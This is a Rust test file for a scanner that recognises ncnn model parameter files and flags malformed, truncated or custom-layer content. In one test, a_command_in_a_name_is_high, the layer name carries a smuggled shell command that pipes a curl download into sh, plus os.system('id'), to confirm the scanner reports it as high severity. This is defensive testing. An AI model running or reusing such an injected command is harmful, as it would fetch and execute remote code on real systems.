//! Both forms of one small net, true and untrue.

use super::*;
use crate::formats::testing::{outcome, rules_of};
use crate::{Outcome, Sibling, Siblings};
use bartizan_core::{Limits, MonotonicClock};
use proptest::prelude::*;

const TEXT: &str = "7767517\n3 3\nInput data 0 1 in 0=8 1=8 2=3\nConvolution conv 1 1 in mid 0=4 1=3 5=1 6=108 -23310=2,0.1,1.0\nReLU act 1 1 mid out 0=0.1\n";

/// The same net in binary.
fn binary() -> Vec<u8> {
    [
        7_767_517, 3, 3, // mark, layers, blobs
        16, 0, 1, 0, 0, 8, 1, 8, 2, 3, -233, // Input
        6, 1, 1, 0, 1, 0, 4, 1, 3, 5, 1, 6, 108, -23_310, 2, 0, 0, -233, // Convolution
        26, 1, 1, 1, 2, -233, // ReLU
    ]
    .into_iter()
    .flat_map(i32::to_le_bytes)
    .collect()
}

/// A folder with one file of weights of so many bytes.
struct Weights(u64);

impl Siblings for Weights {
    fn look_up(&self, relative: &str) -> Option<Sibling> {
        (relative == "net.bin" || relative == "net.param")
            .then_some(Sibling { size: self.0, is_symlink: false })
    }

    fn read(&self, relative: &str, _limit: u64) -> Option<Vec<u8>> {
        (relative == "net.param").then(|| b"7767517\n3 3\n".to_vec())
    }
}

fn beside(weights: u64) -> Outcome {
    let input = Input { bytes: TEXT.as_bytes(), name: "a/net.param", siblings: &Weights(weights) };
    crate::scan(&input, &Limits::default(), &MonotonicClock::start())
}

#[test]
fn both_forms_are_recognised_by_content_and_clean() {
    let binary = binary();
    for (name, bytes, format) in [
        ("x.unheardof", TEXT.as_bytes(), "ncnn-param"),
        ("x.param.bin", binary.as_slice(), "ncnn-param-binary"),
    ] {
        let outcome = crate::scan(&Input::new(name, bytes), &Limits::default(), &MonotonicClock::start());
        assert_eq!((outcome.format, outcome.findings, outcome.gaps), (Some(format), vec![], vec![]));
    }
}

#[test]
fn a_layer_that_ncnn_does_not_bring_is_custom() {
    let text = TEXT.replace("ReLU act", "com.example.Decode act");
    assert_eq!(rules_of(&NCNN_PARAM, text.as_bytes()), [NCNN_CUSTOM_LAYER.id]);
    let mut bytes = binary();
    let at = bytes.len() - 24;
    bytes[at..at + 4].copy_from_slice(&257i32.to_le_bytes());
    assert_eq!(rules_of(&NCNN_PARAM_BINARY, &bytes), [NCNN_CUSTOM_LAYER.id]);
}

#[test]
fn more_blobs_than_announced_are_malformed() {
    assert_eq!(
        rules_of(&NCNN_PARAM, TEXT.replace("3 3\nInput", "3 2\nInput").as_bytes()),
        [NCNN_MALFORMED.id]
    );
    let mut bytes = binary();
    bytes[8..12].copy_from_slice(&2i32.to_le_bytes());
    assert_eq!(rules_of(&NCNN_PARAM_BINARY, &bytes), [NCNN_MALFORMED.id]);
}

#[test]
fn counts_below_zero_and_arrays_longer_than_the_file_are_malformed() {
    assert_eq!(rules_of(&NCNN_PARAM, b"7767517\n-1 3\n"), [NCNN_MALFORMED.id]);
    assert_eq!(rules_of(&NCNN_PARAM, TEXT.replace("=2,0.1", "=9,0.1").as_bytes()), [NCNN_MALFORMED.id]);
    assert_eq!(rules_of(&NCNN_PARAM, TEXT.replace("6=108", "6=-108").as_bytes()), [NCNN_MALFORMED.id]);
    let mut bytes = binary();
    let at = bytes.windows(4).position(|four| four == (-23_310i32).to_le_bytes()).unwrap() + 4;
    bytes[at..at + 4].copy_from_slice(&i32::MAX.to_le_bytes());
    assert!(rules_of(&NCNN_PARAM_BINARY, &bytes).contains(&NCNN_MALFORMED.id));
}

#[test]
fn the_file_of_weights_must_hold_what_the_layers_read() {
    // 108 weights of one to four bytes, four biases.
    assert_eq!(beside(124).findings, vec![]);
    assert_eq!(beside(452).findings, vec![]);
    let short = beside(100);
    assert_eq!(
        (short.findings[0].rule.id, short.findings[0].severity),
        (NCNN_MALFORMED.id, Severity::Medium)
    );
    let long = beside(1 << 20);
    assert_eq!((long.findings[0].rule.id, long.findings[0].severity), (NCNN_MALFORMED.id, Severity::Low));
}

#[test]
fn weights_are_known_by_the_list_beside_them() {
    let input = Input { bytes: &[0; 64], name: "a/net.bin", siblings: &Weights(64) };
    assert_eq!(NCNN_WEIGHTS.recognise(&input), Recognition::Weak);
    assert_eq!(NCNN_WEIGHTS.recognise(&Input::new("net.bin", &[0; 64])), Recognition::No);
}

#[test]
fn a_command_in_a_name_is_high() {
    let text = TEXT.replace("ReLU act", "ReLU `curl${IFS}http://203.0.113.7/i|sh`;os.system('id')");
    assert!(
        outcome(&NCNN_PARAM, text.as_bytes()).findings.iter().any(|found| found.severity >= Severity::High)
    );
}

#[test]
fn lists_that_break_off_are_incomplete_at_every_byte() {
    let binary = binary();
    for cut in 4..binary.len() {
        let outcome = outcome(&NCNN_PARAM_BINARY, &binary[..cut]);
        assert!(!outcome.gaps.is_empty() || !outcome.findings.is_empty(), "cut at {cut}");
    }
    for cut in 8..TEXT.rfind("ReLU").unwrap() {
        assert!(!outcome(&NCNN_PARAM, &TEXT.as_bytes()[..cut]).gaps.is_empty(), "cut at {cut}");
    }
}

proptest! {
    #[test]
    fn any_bytes_behind_the_marks_give_a_result(bytes: Vec<u8>) {
        outcome(&NCNN_PARAM, &[b"7767517\n", bytes.as_slice()].concat());
        outcome(&NCNN_PARAM_BINARY, &[&MAGIC.to_le_bytes(), bytes.as_slice()].concat());
    }

    #[test]
    fn a_damaged_list_gives_a_result(at in 0usize..400, to: u8) {
        for (format, mut bytes) in [(&NCNN_PARAM as &'static dyn Format, TEXT.as_bytes().to_vec()), (&NCNN_PARAM_BINARY, binary())] {
            let at = at % bytes.len();
            bytes[at] = to;
            outcome(format, &bytes);
        }
    }
}
